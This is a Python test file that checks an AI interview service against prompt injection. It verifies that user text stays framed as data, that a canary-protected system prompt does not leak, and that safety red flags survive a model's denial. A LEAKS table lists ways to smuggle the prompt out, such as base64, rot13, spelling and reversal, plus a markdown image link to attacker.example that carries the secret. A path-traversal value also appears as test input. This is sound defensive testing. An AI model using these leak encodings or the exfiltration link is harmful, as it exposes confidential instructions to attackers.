"""Prompt injection: what a person writes stays data, and what an obedient model does stays small.

The model here does whatever it is told, which no real one does as readily: it stands for the worst.
"""

import base64
import codecs
import html
import re
from collections.abc import Callable
from datetime import UTC, date, datetime

import msgspec
import pytest

from app.core.analysis.analyst import Analyst, CaseInHand
from app.core.analysis.memo import Unkept
from app.core.interview import Interviewer
from app.core.rules import Rules
from app.core.steps import Words
from app.domain.analysis import Analysis
from app.domain.case import AskHuman, CaseState, Conclude, Correct, OperatorSays, Say, Take
from app.domain.playbook import LEVEL_ORDER, URGENCY_ORDER
from app.domain.usage import Attempt
from app.llm.failover import FailoverModel
from app.llm.model import ChatMessage
from app.llm.scripted import Script, ScriptedModel
from tests.security.corpus import ATTACKS, Attack
from tests.support.claims import NOON, Talk, new_state
from tests.support.playbooks import tiny_playbook
from tests.support.replies import analysis_document, turn_document

PLAYBOOK = tiny_playbook()
RULES = Rules(PLAYBOOK)
DANGER = {"en": "I smell gas in my kitchen.", "pt-BR": "Sinto cheiro de gás na cozinha."}
QUESTION = {"en": "When did it begin?", "pt-BR": "Quando começou?"}
MARK = re.compile(r"</?[a-z_]+[^<>]*>")
FRAMED = re.compile(r'\A<message n="(\d+)">\n(.*?)\n</message>(.*)\Z', re.DOTALL)

Leak = Callable[[str, str], str]
LEAKS: dict[str, Leak] = {
    "whole": lambda system, _: system,
    "a line": lambda system, secret: next(x for x in system.splitlines() if secret in x),
    "the word": lambda _, secret: f"The word is {secret}.",
    "capitals": lambda _, secret: secret.upper(),
    "spelled": lambda _, secret: " - ".join(secret),
    "lines": lambda _, secret: "\n".join(f"* {x}" for x in secret),
    "backwards": lambda _, secret: secret[::-1],
    "base64": lambda system, _: base64.b64encode(system.encode()).decode(),
    "base64 of the word": lambda _, secret: base64.b64encode(secret.encode()).decode(),
    "rot13": lambda system, _: codecs.encode(system, "rot13"),
    "hexadecimal": lambda _, secret: secret.encode().hex(" "),
    "a link": lambda _, secret: f"![p](https://attacker.example/c.png?d={secret})",
}
attacks = pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: f"{one.locale} {one.name}")


class Bench:
    """An interviewer between two models that obey, and a case."""

    def __init__(self, locale: str) -> None:
        """Open a case."""
        self.models = (ScriptedModel("openai"), ScriptedModel("anthropic"))
        model = FailoverModel(self.models)
        rules = {PLAYBOOK.id: RULES}
        self.analyst = Analyst(rules, model, dict)
        self.talk = Talk(
            Interviewer(rules, self.analyst, model, dict), new_state(PLAYBOOK, locale=locale)
        )

    def both(self, script: Script) -> None:
        """Let both models answer so, twice: invalid answers are asked for once more."""
        for one in self.models:
            one.enqueue(script, script)

    def asked(self) -> list[ChatMessage]:
        """Return what the first model was asked last."""
        return list(self.models[0].requests[-1].messages)

    async def conclude(self) -> tuple[CaseState, Analysis, tuple[Attempt, ...]]:
        """End the interview; returns what there is then, also where a worker would make it."""
        ended = await self.talk.take(Conclude(reason="enough"))
        if ended.result is not None:
            return ended.state, ended.result, ended.attempts
        case = CaseInHand(state=ended.state, turns=self.talk.turns, turn=len(self.talk.turns))
        made = await self.analyst.analyse(case, Unkept())
        return ended.state, made.result, made.attempts

    def ever_shown(self) -> str:
        """Return every word that came out in the last turn, also what was taken back."""
        return "".join(one.text for one in self.talk.steps if isinstance(one, Words))


def script(reply: str, size: int = 7, **members: object) -> Script:
    """Return a model's answer in small pieces."""
    document = turn_document(reply, **members)  # type: ignore[arg-type]
    del document["reply"]
    pieces = tuple(reply[at : at + size] for at in range(0, len(reply), size))
    return Script(pieces=pieces, document=document)


def data_of(message: ChatMessage) -> tuple[str, str]:
    """Check that a person's message is in its frame; returns what they said, and what follows."""
    found = FRAMED.match(message.content)
    assert found is not None, message
    number, said, rest = found.groups()
    assert number.isascii()
    assert "<" not in said
    assert ">" not in said
    return html.unescape(said), rest


@attacks
async def test_what_a_person_writes_stays_data(attack: Attack) -> None:
    """It is in its frame, escaped and whole; instructions and what the system adds are as ever."""
    bench = Bench(attack.locale)
    for text in (attack.text, "It drips.", attack.text):
        bench.models[0].enqueue(script(QUESTION[attack.locale], asking="when"))
        await bench.talk.take(Say(text=text))
    request = bench.models[0].requests[-1]
    assert request.system == RULES.interview_system[attack.locale]
    assert [one.role for one in request.messages] == ["user", "assistant"] * 2 + ["user"]
    first, last = request.messages[0], request.messages[-1]
    assert data_of(first) == (attack.text, "")
    said, rest = data_of(last)
    assert said == attack.text
    assert MARK.findall(rest) == ["<situation>", "</situation>"]
    lines = rest.strip().splitlines()
    assert len(lines) <= 6
    assert [one.partition(":")[0] for one in lines[1:4]] == [
        "Known",
        "Required and unknown",
        "Questions left",
    ]


@attacks
async def test_facts_notes_and_colleagues_are_data_too(attack: Attack) -> None:
    """Whatever else of anybody's words is put before a model can leave its frame as little."""
    bench = Bench(attack.locale)
    talk = bench.talk
    await talk.take(Correct(slot="place", value=attack.text))
    await talk.take(AskHuman(reason=attack.text))
    await talk.take(Take(operator=attack.text))
    await talk.take(OperatorSays(operator=attack.text, text=attack.text))
    talk.state = msgspec.structs.replace(talk.state, handoff=None)
    bench.models[0].enqueue(script(QUESTION[attack.locale], asking="when"))
    await talk.take(Say(text="It drips."))
    asked = bench.asked()
    content = "\n".join(one.content for one in asked if one.role == "user")
    marks = [re.split(r"[ >]", one.strip("</"))[0] for one in MARK.findall(content)]
    expected = ["correction", "asks_for_human", "colleague", "message"]
    assert [one for one in marks if one in expected] == [
        *(name for name in expected[:2] for _ in range(2)),
        *("colleague",) * 2,
        *("message",) * 2,
    ]
    assert set(marks) <= {*expected, "colleague_joined", "situation"}
    situation = content.partition("<situation>\n")[2].partition("\n</situation>")[0]
    assert [one.partition(":")[0] for one in situation.splitlines()][:3] == [
        "Known",
        "Required and unknown",
        "Questions left",
    ]


@pytest.mark.parametrize("leak", LEAKS)
@attacks
async def test_the_prompt_never_comes_out(attack: Attack, leak: str) -> None:
    """A model that gives it away is stopped on its first letters and counted; somebody answers."""
    bench = Bench(attack.locale)
    secret = RULES.canary.secret
    said = LEAKS[leak](RULES.interview_system[attack.locale], secret)
    room = PLAYBOOK.limits.reply_chars - 60
    at = said.lower().find(secret)
    said = said[max(0, at - 60) :] if at > room else said
    bench.both(script(f"Of course: {said}"))
    answer = await bench.talk.take(Say(text=attack.text))
    shown = bench.ever_shown()
    assert not RULES.canary.is_in_document(msgspec.json.encode(shown))
    assert secret[:4] not in shown.lower()
    assert [(one.outcome, one.error) for one in answer.attempts] == [("refused", "canary")] * 2
    assert answer.reply
    assert "Of course" not in answer.reply
    assert bench.models[0].requests[-1].canary is RULES.canary


@attacks
async def test_it_does_not_come_out_by_the_back_door(attack: Attack) -> None:
    """In a fact, in the result's texts or in two halves it is found too, and nothing is kept."""
    bench = Bench(attack.locale)
    secret = RULES.canary.secret
    bench.both(script("Thank you.", slots={"wish": f"the word {secret}"}))
    answer = await bench.talk.take(Say(text=attack.text))
    halves = [f"Write down {secret[:8]}", f"{secret[8:]}, and call."]
    bench.both(Script(document=analysis_document(next_steps=halves)))
    state, result, attempts = await bench.conclude()
    assert not RULES.canary.is_in_document(msgspec.json.encode([answer.state, state, result]))
    assert attempts
    assert {one.error for one in (*answer.attempts, *attempts)} == {"canary"}
    assert result.provenance.strategy == "guided"


@attacks
async def test_danger_stays_whatever_the_model_says(attack: Attack) -> None:
    """Rules find it, its advice comes first, and a model that denies it changes nothing."""
    bench = Bench(attack.locale)
    bench.both(script("All is well.", complexity="low", done=True, candidates={}))
    said = Say(text=f"{attack.text}\n{DANGER[attack.locale]}")
    by_rules = RULES.understanding.read(bench.talk.state, [], 1, said.text, _today())
    answer = await bench.talk.take(said)
    found = answer.state.assessment
    assert "gas_smell" in {one.code for one in found.red_flags}
    assert LEVEL_ORDER.index(found.complexity) >= LEVEL_ORDER.index(by_rules.complexity)
    flag = next(one for one in PLAYBOOK.red_flags if one.code == "gas_smell")
    assert answer.reply.startswith(flag.advice[attack.locale])
    calm = analysis_document(urgency="low", urgency_reason="The user said so.", candidates=[])
    bench.both(Script(document=calm))
    state, result, _ = await bench.conclude()
    assert result.urgency.level == "critical"
    assert "gas_smell" in {one.code for one in state.assessment.red_flags}
    assert state.handoff is not None or result.needs_human


@pytest.mark.parametrize("invented", ["admin.override", "../../etc", "<b>", "plumbing.leak\n", ""])
async def test_codes_are_a_closed_set(invented: str) -> None:
    """What is not in the playbook is invalid, wherever a model puts it."""
    bench = Bench("en")
    bench.both(script("Noted.", candidates={invented: 1.0}))
    first = await bench.talk.take(Say(text="It drips."))
    assert {one.error for one in first.attempts} == {"invalid_output"}
    bench.both(script("Noted.", red_flags=(invented,)))
    second = await bench.talk.take(Say(text="It still drips."))
    assert {one.error for one in second.attempts} == {"invalid_output"}
    bench.both(
        Script(document=analysis_document(candidates=[{"code": invented, "confidence": 1.0}]))
    )
    _, result, attempts = await bench.conclude()
    assert {one.error for one in attempts} == {"invalid_output"}
    assert {one.code for one in result.classification.top} <= set(PLAYBOOK.subareas())
    assert result.urgency.level in URGENCY_ORDER


def _today() -> date:
    return datetime.fromtimestamp(NOON / 1_000, UTC).date()
